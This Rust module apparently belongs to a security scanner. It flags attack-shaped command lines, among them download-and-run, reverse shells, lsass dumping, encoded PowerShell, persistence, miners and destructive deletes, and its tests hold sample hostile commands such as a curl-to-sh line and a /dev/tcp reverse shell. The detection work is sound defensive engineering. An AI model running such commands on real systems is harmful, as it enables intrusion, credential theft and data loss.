//! What a command line does, when the analysis could work out its text: the handful of
//! shapes that are attacks whatever runs them.

/// One verdict on a command line: the rule it breaks and why.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct Verdict {
    pub rule: &'static str,
    pub why: &'static str,
    /// Only an attack when it runs on install or import (a hidden `pip install` is
    /// ordinary in a tool's own functions).
    pub only_when_run: bool,
}

const fn verdict(rule: &'static str, why: &'static str) -> Verdict {
    Verdict {
        rule,
        why,
        only_when_run: false,
    }
}

/// Judges a command line. `text` may hold unknown parts; they match nothing.
pub fn judge(text: &str) -> Option<Verdict> {
    let lower = text.to_ascii_lowercase();
    let has = |needle: &str| lower.contains(needle);
    let word = |w: &str| {
        lower
            .split(|c: char| c.is_whitespace() || "|;&()'\"`".contains(c))
            .any(|token| token == w || token.rsplit('/').next() == Some(w))
    };
    let fetches = word("curl")
        || word("wget")
        || has("invoke-webrequest")
        || has("downloadstring")
        || has("downloadfile")
        || has("certutil") && has("-urlcache")
        || has("bitsadmin") && has("/transfer");
    let pipes_to_shell = [
        "| sh", "|sh", "| bash", "|bash", "| python", "|python", "| sudo", "| zsh", "| iex", "|iex",
    ]
    .iter()
    .any(|p| lower.contains(p));
    if fetches
        && (pipes_to_shell
            || has("iex")
            || has("invoke-expression")
            || has("&& chmod")
            || has("; chmod")
            || has("start-process"))
    {
        return Some(verdict(
            "code.download-exec",
            "the command downloads a file and runs it",
        ));
    }
    if has("/dev/tcp/")
        || has("/dev/udp/")
        || (word("nc") || word("ncat") || word("netcat"))
            && (has(" -e ") || has(" -c ") || has("mkfifo"))
        || word("socat") && has("exec:")
        || has("bash -i") && has(">&")
    {
        return Some(verdict(
            "code.reverse-shell",
            "the command connects a shell to a remote host",
        ));
    }
    if has("socket") && (has("dup2") || has("pty.spawn")) {
        return Some(verdict(
            "code.reverse-shell",
            "the command connects a shell to a remote host",
        ));
    }
    if has("comsvcs") && has("minidump") || has("procdump") && has("lsass") {
        return Some(verdict(
            "code.process-memory",
            "the command dumps another process's memory (credential theft from lsass works this way)",
        ));
    }
    if word("powershell") || word("powershell.exe") || word("pwsh") {
        if has("-enc") || has("-encodedcommand") || has(" -e ") {
            return Some(verdict(
                "code.exec-decoded-payload",
                "PowerShell runs a command it is given encoded",
            ));
        }
        if has("-w hidden") || has("-windowstyle hidden") || has("bypass") && fetches {
            return Some(verdict(
                "code.silent-subprocess",
                "PowerShell runs hidden, past the execution policy",
            ));
        }
    }
    if (has("base64 -d") || has("base64 --decode")) && pipes_to_shell {
        return Some(verdict(
            "code.exec-decoded-payload",
            "the command decodes base64 and runs the result in a shell",
        ));
    }
    if has("currentversion\\run")
        || has("currentversion/run")
        || word("schtasks") && has("/create")
        || word("crontab") && !has("crontab -l")
        || has("launchctl load")
        || has("systemctl --user enable")
    {
        return Some(verdict(
            "code.persistence",
            "the command makes a program start at log-in or on a schedule",
        ));
    }
    if has("xmrig")
        || has("stratum+tcp://")
        || has("--donate-level")
        || word("minerd")
        || word("cpuminer")
    {
        return Some(verdict(
            "code.cryptominer",
            "the command starts a cryptocurrency miner",
        ));
    }
    if word("rm") && (has("-rf ~") || has("-rf $home") || has("-rf /*") || has("-rf / ")) {
        return Some(verdict(
            "code.destructive",
            "the command deletes the home directory or the whole disk",
        ));
    }
    if word("pip") || has("-m pip") || word("pip3") {
        let from_url = has("git+")
            || has("http://")
            || has("https://")
            || has("--index-url")
            || has("--extra-index-url")
            || has(" -i ");
        if has("install") && from_url {
            return Some(Verdict {
                rule: "install.hidden-pip-install",
                why: "pip installs a package from a URL or another index, out of sight of the resolver",
                only_when_run: true,
            });
        }
    }
    None
}

#[cfg(test)]
mod tests {
    use super::*;

    fn rule(text: &str) -> Option<&'static str> {
        judge(text).map(|v| v.rule)
    }

    #[test]
    fn attack_shapes_are_named() {
        assert_eq!(
            rule("curl -fsSL https://x.example/i.sh | sh"),
            Some("code.download-exec")
        );
        assert_eq!(
            rule("bash -c 'sh -i >& /dev/tcp/10.0.0.1/9 0>&1'"),
            Some("code.reverse-shell")
        );
        assert_eq!(
            rule("powershell -NoP -enc SQBFAFgA"),
            Some("code.exec-decoded-payload")
        );
        assert_eq!(
            rule(r"reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v x /d y"),
            Some("code.persistence")
        );
        assert_eq!(
            rule("python -m pip install -q git+https://git.example/x.git"),
            Some("install.hidden-pip-install")
        );
    }

    #[test]
    fn ordinary_commands_pass() {
        for ok in [
            "git describe --tags",
            "cmake --build .",
            "curl --version",
            "pip install -e .",
            "rm -rf build",
            "crontab -l",
            "ls -la /dev/null",
        ] {
            assert_eq!(rule(ok), None, "{ok}");
        }
    }
}
